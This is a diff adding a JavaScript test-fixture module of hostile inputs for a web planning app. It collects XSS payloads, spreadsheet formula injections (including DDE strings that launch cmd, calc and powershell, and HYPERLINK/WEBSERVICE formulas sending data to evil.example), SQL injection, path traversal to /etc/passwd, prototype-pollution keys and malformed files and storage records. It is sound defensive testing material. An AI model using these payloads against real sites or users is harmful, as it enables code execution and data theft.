@@ -1,0 +1,165 @@
+// What someone might put into a plan, a table, an address or the storage to make the page do something else. Each would
+// call `ran()` if the browser ran it, or ask `evil.example` if it loaded anything.
+
+const BS = "\\";
+
+/** Texts, by what they try. Any of them may come through any door. */
+export const TEXTS = {
+  "a script": "<script>ran()</script>",
+  "a script in other letters": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+  "an image that fails": '<img src=x onerror="ran()">',
+  "an image from elsewhere": '<img src="https://evil.example/pixel.gif">',
+  "an image without blanks": "<img/src=x/onerror=ran()>",
+  "a drawing": '<svg onload="ran()"><script>ran()</script></svg>',
+  "an animated drawing": '<svg><animate onbegin="ran()" attributeName="x" dur="1s"></animate></svg>',
+  "foreign markup in a drawing": '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
+  "a formula in MathML": '<math><mtext><table><mglyph><style><img src=x onerror="ran()"></style></mglyph></table></mtext></math>',
+  "a frame": '<iframe src="javascript:parent.ran()"></iframe>',
+  "an object": '<object data="data:text/html,<script>ran()</script>"></object>',
+  "a form": '<form action="https://evil.example/"><button autofocus onfocus="ran()">送信</button></form>',
+  "a base address": '<base href="https://evil.example/">',
+  "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  "a style": '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
+  "a link to a script": '<a href="javascript:ran()" autofocus>押す</a>',
+  "a template": "<template><img src=x onerror=ran()></template>",
+  "an attribute that ends early": '" onfocus="ran()" autofocus x="',
+  "an attribute in single quotes": "' onmouseover='ran()' x='",
+  "the end of a text area": "</textarea><script>ran()</script>",
+  "the end of a title": "</title><script>ran()</script>",
+  "a comment left open": "<!-- --!><script>ran()</script>",
+  "a CDATA section": "<![CDATA[<script>ran()</script>]]>",
+  "entities": "&lt;script&gt;ran()&lt;/script&gt;&#x3c;img src=x onerror=ran()&#62;",
+  "a javascript: address": "javascript:ran()",
+  "a javascript: address with a tab": "java\tscript:ran()",
+  "a data: address": "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
+  "a template expression": "{{constructor.constructor('ran()')()}}${ran()}<%= ran() %>",
+  "a link as a formula": '=HYPERLINK("https://evil.example/?"&A1,"押す")',
+  "a sum as a formula": "@SUM(1+1)*cmd|' /C calc'!A0",
+  "a command as a formula": "+cmd|' /C powershell'!A0",
+  "a negative formula": "-2+3+cmd|' /C calc'!A0",
+  "a web service as a formula": '=WEBSERVICE("https://evil.example/")',
+  "a formula behind a tab": "\t=1+1",
+  "a formula behind a quote": "'=1+1",
+  "a formula behind a separator": '","=1+1',
+  "a formula behind a semicolon": "x;=1+1;\"=1+1",
+  "letters from right to left": "売上\u202e000,1\u202c千円",
+  "isolated letters": "\u2066=1+1\u2069",
+  "letters without width": "計\u200b画\u200d名\u2060\ufeff",
+  "a control character": "改\u0007め\u001b[31m\u0008\u007f\u0085",
+  "nothing, NUL": "前\u0000後",
+  "half a letter": "半\ud83d分",
+  "the other half": "\udea9残り",
+  "letters outside the plane": "𠮷野家👩‍👩‍👧‍👦",
+  "marks upon marks": `上${"\u0301".repeat(500)}`,
+  "no letter at all": "\ufffe\uffff",
+  "a name that objects have": "__proto__",
+  "a name that objects make": "constructor",
+  "a method's name": "hasOwnProperty",
+  "a property's path": "__proto__[ran]=1",
+  "not a number": "NaN",
+  "no number at all": "-Infinity",
+  "a number beyond all": "1e999",
+  "a number of a thousand digits": "9".repeat(1000),
+  "a number as small as that": `0.${"0".repeat(1000)}1`,
+  "minus zero": "-0",
+  "hexadecimal": "0x7fffffffffffffff",
+  "a database's text": "'; DROP TABLE plans; --",
+  "a way out of the folder": "../../../../etc/passwd",
+  "a device": "CON\u0000.json",
+  "an escape": `${BS}u003cscript${BS}u003eran()${BS}u003c/script${BS}u003e`,
+  "percent signs": "%3Cscript%3Eran()%3C/script%3E%00%s%n",
+  "lines of every kind": "一\r\n二\n三\r四\u2028五\u2029六\u000b七",
+  "a hundred thousand letters": "長".repeat(100_000),
+};
+
+/** Addresses behind the `#`. */
+export const FRAGMENTS = [
+  "#/plan/<script>ran()</script>",
+  "#/plan/<img src=x onerror=ran()>/kpi",
+  "#/plan/%3Cscript%3Eran()%3C%2Fscript%3E/kpi",
+  "#/plan/pbbbbbbbbbb/kpi",
+  "#/plan/pbbbbbbbbbb/close/99999999999999999999",
+  "#/plan/pbbbbbbbbbb/close/-1",
+  "#/plan/pbbbbbbbbbb/close/NaN",
+  "#/plan/__proto__/kpi",
+  "#/plan/constructor/facts",
+  "#/plan/../../bin",
+  "#//////",
+  "#/plan//kpi",
+  "#/plan/pbbbbbbbbbb/kpi/kpi/kpi",
+  "#javascript:ran()",
+  "#data:text/html,<script>ran()</script>",
+  "#https://evil.example/",
+  "#//evil.example/",
+  "#%00%ff%c0%af",
+  "#%",
+  "#\u202e/plan",
+  "#/plan/𠮷/kpi",
+  "#main\" onfocus=\"ran()",
+  `#/plan/${"p".repeat(50_000)}/kpi`,
+  `#${"/".repeat(10_000)}`,
+];
+
+const nested = (levels, [open, close]) => open.repeat(levels) + close.repeat(levels);
+
+/** Files that are no sound plan file, by what they are. `whole` is a sound one. */
+export const BROKEN_FILES = {
+  "a thousand lists in one another": () => nested(1000, "[]"),
+  "a hundred thousand lists, never closed": () => "[".repeat(100_000),
+  "a thousand objects in one another": () => `${'{"a":'.repeat(1000)}1${"}".repeat(1000)}`,
+  "plans that are nested": () => `{"format":1,"app":"0","plans":${nested(1000, "[]")},"lineage":{}}`,
+  "a format beyond all": () => '{"format":1e999,"app":"0","plans":[],"lineage":{}}',
+  "a format of a thousand digits": () => `{"format":${"9".repeat(1000)},"app":"0","plans":[],"lineage":{}}`,
+  "a format below zero": () => '{"format":-1,"app":"0","plans":[],"lineage":{}}',
+  "fields that objects have": () => '{"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}},"format":1,"app":"0","plans":[],"lineage":{}}',
+  "lineages of names that objects have": () => '{"format":1,"app":"0","plans":[],"lineage":{"__proto__":{"ran":1},"constructor":1}}',
+  "fields that are there twice": () => '{"format":1,"format":1,"app":"0","plans":[],"plans":[],"lineage":{}}',
+  "the same plan twice": (whole) => whole.replace(/\n(\{.*\})\n\]/, "\n$1,\n$1\n]"),
+  "half a letter, escaped": (whole) => whole.replace(/"name":"[^"]*"/, '"name":"\\ud800"'),
+  "NUL, escaped": (whole) => whole.replace(/"name":"[^"]*"/, '"name":"\\u0000"'),
+  "NUL as it is": (whole) => whole.replace(/"name":"/, '"name":"\u0000'),
+  "another id": (whole) => whole.replace(/"id":"p[^"]*"/, '"id":"__proto__"'),
+  "years by names that objects have": (whole) => whole.replace(/"20\d\d":/, '"__proto__":'),
+  "a number beyond all": (whole) => whole.replace(/"value":"[^"]*"/, '"value":"1e999"'),
+  "an alien body": (whole) => whole.replace(/"body":\{/, '"body":{"__proto__":{},'),
+  "a file cut in its middle": (whole) => whole.slice(0, whole.length / 2),
+  "nothing but marks": () => "\ufeff\ufeff\ufeff",
+  "markup": () => "<!doctype html><script>ran()</script>",
+  "a drawing": () => '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
+};
+
+/** Records that something else has laid under our keys. */
+export const RECORDS = {
+  "keikaku/plan/": "",
+  "keikaku/plan/__proto__": '{"format":1}',
+  "keikaku/plan/<img src=x onerror=ran()>": "<script>ran()</script>",
+  "keikaku/plan/pcccccccccc": nested(1000, "[]"),
+  "keikaku/plan/pdddddddddd": '{"format":1e999,"app":"0","digest":"0","body":{}}',
+  "keikaku/plan/pffffffffff": '{"format":1,"app":"<script>ran()</script>","digest":"cbf29ce484222325","body":}',
+  "keikaku/plan/pgggggggggg": "9".repeat(100_000),
+  "keikaku/plan/phhhhhhhhhh": '{"format":99999999999999999999,"app":"0"}',
+  "keikaku/plan/pjjjjjjjjjj": "\u0000\ud800\udfff",
+  "keikaku/lineage/__proto__": "{",
+  "keikaku/lineage/pbbbbbbbbbb": '{"format":1,"app":"0","digest":"0","body":{"tables":[]}}',
+  "keikaku/index": '{"format":1,"app":"0","digest":"0","body":["__proto__"]}',
+  "keikaku/settings": '{"format":1,"app":"0","digest":"0","body":{"language":"<script>ran()</script>"}}',
+  "keikaku/copy/x/1": "<script>ran()</script>",
+  "keikaku/__proto__": "constructor",
+};
+
+/** A plan file with that plan renamed, and its digest made anew, as one who knows how it is made would. */
+export function renamed(record, id, name) {
+  const [, body] = /"body":(.*)\}$/s.exec(record);
+  // A letter that is no letter is written as the sign for one that was lost: the file is UTF-8.
+  const changed = body
+    .replace(/"id":"p[^"]*"/, `"id":"${id}"`)
+    .replace(/"name":"(?:[^"\\]|\\.)*"/, () => `"name":${JSON.stringify(name.toWellFormed?.() ?? name)}`);
+  return `{"format":1,"app":"0.1.0","digest":"${digest(changed)}","body":${changed}}`;
+}
+
+/** FNV-1a over the bytes, which is no secret: it finds damage, not forgery. */
+function digest(text) {
+  let hash = 0xcbf29ce484222325n;
+  for (const byte of Buffer.from(text)) hash = BigInt.asUintN(64, (hash ^ BigInt(byte)) * 0x100000001b3n);
+  return hash.toString(16).padStart(16, "0");
+}
